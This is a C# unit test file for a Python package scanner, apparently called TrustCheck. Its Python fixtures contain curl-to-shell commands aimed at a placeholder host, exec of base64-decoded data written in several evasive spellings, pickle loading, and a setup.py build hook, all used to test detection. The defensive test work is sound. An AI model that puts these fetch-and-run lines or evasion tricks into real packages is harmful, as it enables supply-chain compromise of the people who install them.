using TrustCheck.Artifacts.Capabilities;

namespace TrustCheck.Artifacts.Tests.Capabilities;

/// <summary>
/// Review 13, 1.8 and 1.7: callees and taint resolved at the call, in source order, with may-alias semantics; statements
/// after <c>;</c> and a block colon; star imports; alias assignments; other callee spellings; pickle; setup.py functions.
/// </summary>
public sealed class CallResolutionEvasionTests
{
    private static string? Process(string source) => Snippets.Hits(source, CapabilityCodes.ConcealedProcess) is [var hit, ..] ? hit.Detail : null;

    [Theory]
    // Rebinding after the call, in a function: the call still runs subprocess.Popen.
    [InlineData("import subprocess as s\ns.Popen('curl -s https://x.example/i | sh', shell=True)\ndef _():\n    import json as s\n")]
    // Rebinding at module level after the call.
    [InlineData("import subprocess as s\ns.Popen('curl -s https://x.example/i | sh', shell=True)\nimport json as s\n")]
    // Call inside a function, binding after it: may-alias.
    [InlineData("def go():\n    s.Popen('curl -s https://x.example/i | sh', shell=True)\nimport subprocess as s\nimport json as s\ngo()\n")]
    // Rebinding before the call never hides the earlier dangerous binding from a function.
    [InlineData("import subprocess as s\nimport json as s\ndef go():\n    s.Popen('curl -s https://x.example/i | sh', shell=True)\n")]
    public void AliasRebinding_DoesNotHideTheDangerousBinding(string source)
    {
        Assert.Contains("subprocess.Popen", Process(source), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("import sys; import subprocess as s\ns.run('curl x.example | sh', shell=True)\n")]
    [InlineData("if True: import subprocess as sp\nsp.run('curl x.example | sh', shell=True)\n")]
    [InlineData("try: import subprocess as sp\nexcept ImportError: pass\nsp.run('curl x.example | sh', shell=True)\n")]
    [InlineData("x = 1; from os import system as run; run('curl x.example | bash')\n")]
    [InlineData("def f(): import os; os.system('curl x.example | sh')\n")]
    public void ImportsAfterASemicolonOrABlockColon_Bind(string source)
    {
        Assert.NotNull(Process(source));
    }

    [Theory]
    [InlineData("from os import *\nsystem('curl -s https://x.example/i | sh')\n", "os.system")]
    [InlineData("from subprocess import *\nPopen('curl x.example | sh', shell=True)\n", "subprocess.Popen")]
    public void StarImportOfADangerousModule_MakesItsNamesResolve(string source, string callee)
    {
        Assert.Contains(callee, Process(source), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("from base64 import *\nexec(b64decode(x))\n")]
    [InlineData("import base64\nf = exec\nf(base64.b64decode(x))\n")]
    [InlineData("import base64, builtins\nrun = builtins.exec\nrun(base64.b64decode(x))\n")]
    [InlineData("import base64\nexec.__call__(base64.b64decode(x))\n")]
    [InlineData("import base64, builtins\ngetattr(builtins, 'exec', None)(base64.b64decode(x))\n")]
    [InlineData("import base64, builtins\nvars(builtins)['exec'](base64.b64decode(x))\n")]
    [InlineData("import base64\n__builtins__.compile(base64.b64decode(x), 'x', 'exec')\n")]
    [InlineData("import base64\nrun = __import__('builtins').exec\nrun(base64.b64decode(x))\n")]
    [InlineData("import base64\nrun = getattr(__builtins__, 'exec')\nrun(base64.b64decode(x))\n")]
    public void OtherCalleeSpellings_AreResolved(string source)
    {
        Assert.Single(Snippets.Hits(source, CapabilityCodes.DecodedExecution));
    }

    [Fact]
    public void AssignedCalleeFromImport_IsAnAlias()
    {
        Assert.Contains("os.system", Process("run = __import__('os').system\nrun('curl x.example | sh')\n"), StringComparison.Ordinal);
        Assert.Contains("subprocess.Popen", Process("import subprocess\nsp = subprocess.Popen\nsp('curl x.example | sh', shell=True)\n"), StringComparison.Ordinal);
    }

    [Theory]
    // A reassignment after the exec does not clear the taint the exec saw.
    [InlineData("import base64\np = base64.b64decode(x)\nexec(p)\np = None\n")]
    // A reassignment in another function does not either.
    [InlineData("import base64\np = base64.b64decode(x)\nexec(p)\ndef _():\n    p = None\n")]
    // A reassignment in a nested block before the exec may not run.
    [InlineData("import base64\np = base64.b64decode(x)\nif cond:\n    p = None\nexec(p)\n")]
    // A function runs later: the module-level assignment after it counts.
    [InlineData("import base64\ndef run():\n    exec(p)\np = base64.b64decode(x)\nrun()\n")]
    // Through another name, both assigned after the function that runs it.
    [InlineData("import zlib\ndef run():\n    exec(stage)\npayload = zlib.decompress(x)\nstage = payload\n")]
    public void TaintIsAskedAtTheCall(string source)
    {
        Assert.Single(Snippets.Hits(source, CapabilityCodes.DecodedExecution));
    }

    [Theory]
    [InlineData("import pickle, base64\npickle.loads(base64.b64decode(x))\n", "pickle.loads")]
    [InlineData("import cPickle\ncPickle.loads(blob)\n", "cPickle.loads")]
    [InlineData("import _pickle\n_pickle.load(fh)\n", "_pickle.load")]
    [InlineData("import dill\ndill.loads(blob)\n", "dill.loads")]
    [InlineData("import joblib\nmodel = joblib.load(path)\n", "joblib.load")]
    [InlineData("from pickle import loads as l\nl(blob)\n", "pickle.loads")]
    public void PickleFamily_IsCodeDeserialization(string source, string callee)
    {
        var hit = Assert.Single(Snippets.Hits(source, CapabilityCodes.CodeDeserialization));

        Assert.Contains(callee, hit.Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("import pickle, base64\npickle.loads(base64.b64decode(x))\n")]
    [InlineData("import pickle, zlib\nblob = zlib.decompress(x)\npickle.loads(blob)\n")]
    [InlineData("import pickle, base64\nexec(pickle.loads(base64.b64decode(x)))\n")]
    [InlineData("import marshal\ncode = marshal.loads(blob)\nexec(code)\n")]
    public void DecodedOrDeserializedDataRun_IsDecodedExecution(string source)
    {
        Assert.NotEmpty(Snippets.Hits(source, CapabilityCodes.DecodedExecution));
    }

    [Theory]
    [InlineData("import json\ndata = json.loads(blob)\n")]
    [InlineData("import pickle\nblob = pickle.dumps(obj)\n")]
    [InlineData("import pickle\ndef f(data):\n    return pickle.loads(data)\n")]
    public void PickleLookAlikes_AreNotDecodedExecution(string source)
    {
        Assert.Empty(Snippets.Hits(source, CapabilityCodes.DecodedExecution));
    }

    [Theory]
    // Rebinding of a harmless name stays harmless; a star import of a harmless module adds nothing.
    [InlineData("import json as s\ns.dumps(x)\nfrom string import *\nTemplate('x')\n")]
    // A bare name is not a star-imported module's function unless that module was star-imported before (module level).
    [InlineData("system('x')\nfrom os import *\n")]
    public void HarmlessBindings_DoNotResolveToProcesses(string source)
    {
        Assert.DoesNotContain(ModuleScanner.Scan("m.py", "m.py", System.Text.Encoding.UTF8.GetBytes(source), CodeLocation.ImportTime).Capabilities, c => c.Capability == Capability.Process);
    }

    [Fact]
    public void SetupScriptFunctionBodies_RunAtBuildTime()
    {
        const string setup = """
            import subprocess
            from setuptools import setup
            from setuptools.command.egg_info import egg_info

            class Hook(egg_info):
                def run(self):
                    subprocess.Popen(['python', '-c', 'import urllib.request'])
                    egg_info.run(self)

            setup(name='x', cmdclass={'egg_info': Hook})
            """;

        var hit = Assert.Single(Snippets.Hits(setup, CapabilityCodes.InstallTimeAction, CodeLocation.SetupScript));

        Assert.Equal((CodeLocation.SetupScript, 7), (hit.Location, hit.Line));
        Assert.Contains("process execution", hit.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void SetupScriptFunctionBodies_DecodedExecutionWeighsAsSetupScript()
    {
        var hit = Assert.Single(Snippets.Hits("import base64\ndef run():\n    exec(base64.b64decode(x))\n", CapabilityCodes.DecodedExecution, CodeLocation.SetupScript));

        Assert.Equal(CodeLocation.SetupScript, hit.Location);
    }

    [Fact]
    public void ImportedModuleFunctionBodies_StayInsideAFunction()
    {
        var hit = Assert.Single(Snippets.Hits("import base64\nclass C:\n    def run(self): exec(base64.b64decode(x))\n    y = 1\n", CapabilityCodes.DecodedExecution));

        Assert.Equal(CodeLocation.Function, hit.Location);
    }

    [Fact]
    public void ALambdaInABlockHeader_DoesNotOpenTheBlock()
    {
        var hit = Assert.Single(Snippets.Hits("import base64\nif (lambda: 1)(): exec(base64.b64decode(x))\n", CapabilityCodes.DecodedExecution));

        Assert.Equal(CodeLocation.ImportTime, hit.Location);
    }
}
